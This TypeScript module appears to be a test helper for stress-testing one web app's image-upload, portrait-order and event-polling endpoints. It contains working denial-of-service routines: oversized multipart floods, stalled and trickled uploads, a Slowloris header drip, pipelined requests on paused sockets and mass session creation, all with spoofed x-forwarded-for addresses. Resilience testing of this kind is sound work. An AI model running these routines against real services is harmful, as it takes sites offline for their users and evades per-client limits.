import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import http from 'node:http';
import { connect, type Socket } from 'node:net';

/** `address` is the client address that a trusted proxy would send. */
export type Target = { readonly origin: string; readonly address: string };
export type Held = { readonly open: () => number; readonly letGo: () => void };

const ORDERS = '/api/lenses/anonymous/portrait';
const UPLOADS = '/api/images/uploads';
const BOUNDARY = 'x-attack';
const FILES = 15;

/** @returns the statuses, 0 for a closed connection */
export async function sendLargeForms(
  target: Target,
  { count, fileBytes }: { readonly count: number; readonly fileBytes: number },
): Promise<number[]> {
  return Promise.all(Array.from({ length: count }, () => sendLargeForm(target, fileBytes)));
}

async function sendLargeForm({ origin, address }: Target, fileBytes: number): Promise<number> {
  const fields = { style: 'neon', gender: 'woman', face_consent: 'true' };
  const texts = Object.entries(fields).map(([name, value]) => part(name) + value);
  const begin = part('facial_feature_images', 'a.jpg');
  const end = `\r\n--${BOUNDARY}--\r\n`;
  const length = texts.join('').length + FILES * (begin.length + fileBytes) + end.length;
  const request = http.request(origin + ORDERS, {
    method: 'POST',
    agent: false,
    headers: {
      'content-type': `multipart/form-data; boundary=${BOUNDARY}`,
      'content-length': length,
      'x-forwarded-for': address,
      prefer: 'respond-async',
    },
  });
  let status = 0;
  request.on('error', () => undefined);
  const closed = new Promise((resolve) => request.once('close', resolve));
  request.once('response', (response) => {
    status = response.statusCode ?? 0;
    response.resume();
    response.once('end', () => request.destroy());
  });
  const write = async (piece: string | Buffer) => {
    if (request.destroyed || request.write(piece)) return;
    await Promise.race([once(request, 'drain').catch(() => undefined), closed]);
  };
  const megabyte = Buffer.alloc(1024 * 1024);
  await write(texts.join(''));
  for (let file = 0; file < FILES && !request.destroyed; file += 1) {
    await write(begin);
    for (let sent = 0; sent < fileBytes; sent += megabyte.length) {
      await write(megabyte.subarray(0, Math.min(megabyte.length, fileBytes - sent)));
    }
  }
  request.end(end);
  await closed;
  return status;
}

function part(name: string, fileName?: string): string {
  const file = fileName === undefined ? '' : `; filename="${fileName}"`;
  return `\r\n--${BOUNDARY}\r\ncontent-disposition: form-data; name="${name}"${file}\r\n\r\n`;
}

export async function stallUploads(target: Target, count: number): Promise<Held> {
  return hold(target, count, () => `${uploadHead(target)}begun`);
}

export async function trickleUploads(target: Target, count: number): Promise<Held> {
  return hold(target, count, () => `${uploadHead(target)}begun`, 'x');
}

/** Slowloris: requests whose headers never end. */
export async function trickleHeaders(target: Target, count: number): Promise<Held> {
  return hold(target, count, () => 'GET / HTTP/1.1\r\nhost: x\r\n', 'x-a: b\r\n');
}

export async function ignoreAnswers(
  target: Target,
  { count, path }: { readonly count: number; readonly path: string },
): Promise<Held> {
  const ask = `GET ${path} HTTP/1.1\r\nhost: x\r\nx-forwarded-for: ${target.address}\r\n\r\n`;
  return hold(
    target,
    count,
    () => ask.repeat(50),
    undefined,
    (socket) => socket.pause(),
  );
}

/** Polling needs no open connection. @returns the statuses */
export async function openLiveSessions(target: Target, count: number): Promise<number[]> {
  return Promise.all(
    Array.from({ length: count }, async () => {
      const secret = randomBytes(32).toString('base64url');
      const response = await fetch(`${target.origin}/api/events?EIO=4&transport=polling`, {
        headers: { cookie: `anonymous_user_id=${secret}`, 'x-forwarded-for': target.address },
      });
      await response.body?.cancel();
      return response.status;
    }),
  );
}

function uploadHead({ address }: Target): string {
  return [
    `POST ${UPLOADS} HTTP/1.1`,
    'host: x',
    `x-forwarded-for: ${address}`,
    `content-type: multipart/form-data; boundary=${BOUNDARY}`,
    'content-length: 10000000',
    '',
    '',
  ].join('\r\n');
}

async function hold(
  { origin }: Target,
  count: number,
  begin: () => string,
  drip?: string,
  prepare: (socket: Socket) => void = (socket) => socket.resume(),
): Promise<Held> {
  const { hostname, port } = new URL(origin);
  const sockets = await Promise.all(
    Array.from({ length: count }, async () => {
      const socket = connect(Number(port), hostname);
      socket.on('error', () => undefined);
      await Promise.race([once(socket, 'connect'), once(socket, 'close')]).catch(() => undefined);
      prepare(socket);
      socket.write(begin());
      return socket;
    }),
  );
  const open = () => sockets.filter((socket) => !socket.destroyed && !socket.readableEnded);
  const timer = setInterval(() => {
    if (drip !== undefined) for (const socket of open()) socket.write(drip);
  }, 1_000);
  return {
    open: () => open().length,
    letGo: () => {
      clearInterval(timer);
      for (const socket of sockets) socket.destroy();
    },
  };
}
